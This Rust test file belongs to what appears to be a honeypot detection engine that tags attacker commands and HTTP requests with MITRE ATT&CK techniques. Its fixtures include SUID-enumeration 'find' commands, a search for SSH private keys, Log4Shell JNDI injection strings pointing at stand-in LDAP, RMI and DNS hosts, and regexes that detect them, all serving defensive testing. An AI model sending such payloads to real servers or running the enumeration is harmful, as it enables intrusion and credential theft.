//! Evaluation semantics: tags, multi-emit, order, state, floor, determinism, and the
//! equivalence of the `RegexSet` path with rule-by-rule evaluation.

use chrono::{DateTime, NaiveDate, TimeZone, Utc};
use decnet_ttp::catalogue::Catalogue;
use decnet_ttp::pack::load_dir_with;
use decnet_ttp::ratelimit::RateLimiter;
use decnet_ttp::state::{RuleMode, StateTable};
use decnet_ttp::{EvalEvent, Pack, RuleIndex, SourceKind, SuppressReason};
use serde_json::{Value, json};
use uuid::Uuid;

fn rule(
    id: &str,
    applies: &str,
    field: &str,
    pattern: &str,
    emits: &str,
    evidence: &str,
) -> String {
    format!(
        "rule_id: {id}\nrule_version: 1\nname: test_{}\ndescription: test rule\nattack_release: enterprise-v18.1\n\
         applies_to: {applies}\nmatch:\n  field: {field}\n  pattern: '{pattern}'\nemits:\n{emits}\nevidence_fields: {evidence}\n",
        id.to_lowercase()
    )
}

fn pack(rules: &[String]) -> Pack {
    let dir = tempfile::tempdir().unwrap();
    for text in rules {
        let id = &text[9..14];
        std::fs::write(dir.path().join(format!("{id}.yaml")), text).unwrap();
    }
    let today = NaiveDate::from_ymd_opt(2026, 12, 3).unwrap();
    load_dir_with(dir.path(), Catalogue::bundled(), today)
        .unwrap()
        .pack
}

fn suid_pack() -> Pack {
    pack(&[
        rule(
            "R0015",
            "[command]",
            "command_text",
            r"(?i){{cmd}}find\b[^;&|\n]*\s-perm\s+[-/]?(?:[ug][+=]s|0?[246]000)\b",
            "  - {tactic: TA0007, technique_id: T1083, confidence: 0.85}\n  - {tactic: TA0004, technique_id: T1548, sub_technique_id: T1548.001, confidence: 0.95}",
            "[command_text]",
        ),
        rule(
            "R0016",
            "[command]",
            "command_text",
            r"{{cmd}}find\s+/(?:home|etc|var|opt|root|tmp|usr)?(?:/\S*)?(?:\s|$)",
            "  - {tactic: TA0007, technique_id: T1083, confidence: 0.65}",
            "[command_text]",
        ),
    ])
}

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 12, 3, 12, 0, 0).unwrap()
}

fn command(source_id: &str, text: &str) -> EvalEvent {
    let payload = json!({"command_text": text}).as_object().unwrap().clone();
    let mut event = EvalEvent::new(SourceKind::Command, source_id, payload);
    event.attacker_uuid = Some(Uuid::parse_str("6dd21fc3-121b-5123-aaa0-18e21dfe5b91").unwrap());
    event.session_id = Some("s1".into());
    event
}

fn summary(tags: &[decnet_ttp::Tag]) -> Vec<(String, String, f64)> {
    tags.iter()
        .map(|t| {
            (
                t.rule_id.to_string(),
                t.sub_technique_id
                    .as_ref()
                    .unwrap_or(&t.technique_id)
                    .to_string(),
                t.confidence,
            )
        })
        .collect()
}

#[test]
fn multi_emit_and_co_fire_in_rule_then_emit_order() {
    let index = RuleIndex::new(&suid_pack());
    let eval = index.evaluate(
        &command("cmd_42", "find / -perm -u=s -type f 2>/dev/null"),
        now(),
    );
    assert_eq!(
        summary(&eval.tags),
        vec![
            ("R0015".into(), "T1083".into(), 0.85),
            ("R0015".into(), "T1548.001".into(), 0.95),
            ("R0016".into(), "T1083".into(), 0.65),
        ]
    );
    let tag = &eval.tags[1];
    assert_eq!(tag.uuid.to_string(), "4fd57b14-c135-544c-97d9-4fabc1051584");
    assert_eq!(
        &*tag.mitre_url,
        "https://attack.mitre.org/techniques/T1548/001"
    );
    assert_eq!(&*tag.tactic, "TA0004");
    assert_eq!(&*tag.attack_release, "enterprise-v18.1");
    assert_eq!(tag.session_id.as_deref(), Some("s1"));
    let evidence = serde_json::to_value(&tag.evidence).unwrap();
    assert_eq!(
        evidence,
        json!({"command_text": "find / -perm -u=s -type f 2>/dev/null", "matched_tokens": ["find / -perm -u=s"]})
    );
}

#[test]
fn replaying_an_event_yields_the_same_tags() {
    let index = RuleIndex::new(&suid_pack());
    let event = command("cmd_42", "sudo find /usr -perm /6000 -type f");
    let first = index.evaluate(&event, now());
    let second = index.evaluate(&event, now());
    assert_eq!(first, second);
    let reloaded = RuleIndex::new(&suid_pack()).evaluate(&event, now());
    let ids = |e: &decnet_ttp::Evaluation| e.tags.iter().map(|t| t.uuid).collect::<Vec<_>>();
    assert_eq!(ids(&first), ids(&reloaded));
}

#[test]
fn disabled_rules_do_nothing_and_clipped_rules_are_capped() {
    let pack = suid_pack();
    let event = command("c", "find / -perm -4000");

    let mut states = StateTable::default();
    states.set("R0015", RuleMode::Disabled);
    let eval = RuleIndex::with_states(&pack, &states).evaluate(&event, now());
    assert_eq!(
        summary(&eval.tags),
        vec![("R0016".into(), "T1083".into(), 0.65)]
    );
    assert!(
        eval.suppressed.is_empty(),
        "disabled rules produce no suppression"
    );

    states.set(
        "R0015",
        RuleMode::Clipped {
            confidence_max: 0.5,
        },
    );
    let eval = RuleIndex::with_states(&pack, &states).evaluate(&event, now());
    let r15: Vec<f64> = eval
        .tags
        .iter()
        .filter(|t| &*t.rule_id == "R0015")
        .map(|t| t.confidence)
        .collect();
    assert_eq!(r15, vec![0.5, 0.5]);
}

#[test]
fn a_ceiling_below_the_floor_shadow_runs_the_rule() {
    let pack = suid_pack();
    let mut states = StateTable::default();
    states.set(
        "R0016",
        RuleMode::Clipped {
            confidence_max: 0.2,
        },
    );
    let index = RuleIndex::with_states(&pack, &states);
    let eval = index.evaluate(&command("c", "find /home -name id_rsa"), now());
    assert!(eval.tags.is_empty());
    assert_eq!(eval.suppressed.len(), 1);
    assert_eq!(eval.suppressed[0].reason, SuppressReason::BelowFloor);
    assert_eq!(eval.suppressed[0].tag.confidence, 0.2);

    states.set(
        "R0016",
        RuleMode::Clipped {
            confidence_max: 0.3,
        },
    );
    let eval = index
        .restate(&states)
        .evaluate(&command("c", "find /home -name id_rsa"), now());
    assert_eq!(
        summary(&eval.tags),
        vec![("R0016".into(), "T1083".into(), 0.3)],
        "exactly the floor is written"
    );
}

#[test]
fn field_lists_fire_once_with_tokens_from_the_first_matching_field() {
    let pack = pack(&[rule(
        "R0008",
        "[http_request]",
        "[url_decoded, user_agent, header_text]",
        r"(?i)\$\{[^\s]{0,120}?(?:jndi:|\$\{)[^\s]{0,120}?(?:ldaps?|rmi|dns|iiop|https?)://",
        "  - {tactic: TA0001, technique_id: T1190, confidence: 0.95}",
        "[request_path]",
    )]);
    let payload = json!({"method": "GET", "raw_url": "/?x=%24%7Bjndi:ldap://198.51.100.7:1389/a%7D",
        "user_agent": "${jndi:rmi://198.51.100.8/x}", "headers": {"x-forwarded-for": "${jndi:dns://x.example}"}});
    let mut event = EvalEvent::new(
        SourceKind::HttpRequest,
        "r1",
        payload.as_object().unwrap().clone(),
    );
    event.attacker_uuid = Some(Uuid::nil());
    let eval = RuleIndex::new(&pack).evaluate(&event, now());
    assert_eq!(eval.tags.len(), 1);
    let evidence = serde_json::to_value(&eval.tags[0].evidence).unwrap();
    assert_eq!(
        evidence,
        json!({"request_path": "/", "matched_tokens": ["${jndi:ldap://"]})
    );
}

#[test]
fn regex_set_and_sequential_paths_agree() {
    let pack = suid_pack();
    let index = RuleIndex::new(&pack);
    let commands = [
        "find / -perm -u=s -type f 2>/dev/null",
        "find . -name '*.conf'",
        "cd /tmp; find /var/www -name wp-config.php",
        "echo find / -perm -4000",
        "busybox find /etc -perm -g=s",
        "",
        "uname -a",
    ];
    for (i, text) in commands.iter().enumerate() {
        let event = command(&format!("c{i}"), text);
        assert_eq!(
            index.evaluate(&event, now()),
            index.evaluate_sequential(&event, now()),
            "{text}"
        );
    }
}

#[test]
fn events_without_an_anchor_produce_no_tags() {
    let index = RuleIndex::new(&suid_pack());
    let mut event = command("c", "find / -perm -4000");
    event.attacker_uuid = None;
    assert!(index.evaluate(&event, now()).tags.is_empty());
}

#[test]
fn the_rate_limit_withholds_tags_past_the_budget_per_anchor_and_window() {
    let index = RuleIndex::new(&suid_pack());
    let mut limiter = RateLimiter::default();
    let limit = |_: &str| 2;
    let mode = |_: &str| RuleMode::Enabled;
    let mut kept = Vec::new();
    for i in 0..3 {
        let mut eval = index.evaluate(&command(&format!("c{i}"), "find /home -name x"), now());
        limiter.apply(&mut eval, now(), limit, mode);
        kept.push((
            eval.tags.len(),
            eval.suppressed
                .iter()
                .filter(|s| s.reason == SuppressReason::RateLimited)
                .count(),
        ));
    }
    assert_eq!(kept, vec![(1, 0), (1, 0), (0, 1)]);
    // A new window admits again, and old windows are forgotten.
    let later = now() + chrono::Duration::minutes(3);
    let mut eval = index.evaluate(&command("c9", "find /home -name x"), later);
    limiter.apply(&mut eval, later, limit, mode);
    assert_eq!(eval.tags.len(), 1);
    assert_eq!(limiter.len(), 1);
}

#[test]
fn tags_serialise_with_the_spec_fields() {
    let index = RuleIndex::new(&suid_pack());
    let eval = index.evaluate(&command("cmd_42", "find /home -name id_rsa"), now());
    let value: Value = serde_json::to_value(&eval.tags[0]).unwrap();
    let keys: Vec<&str> = value
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    let mut want = [
        "uuid",
        "source_kind",
        "source_id",
        "attacker_uuid",
        "identity_uuid",
        "session_id",
        "decky_id",
        "tactic",
        "technique_id",
        "sub_technique_id",
        "confidence",
        "rule_id",
        "rule_version",
        "evidence",
        "attack_release",
        "mitre_url",
        "created_at",
    ];
    want.sort_unstable();
    assert_eq!(keys, want);
    assert_eq!(value["created_at"], json!("2026-12-03T12:00:00.000000Z"));
    assert_eq!(value["sub_technique_id"], Value::Null);
}
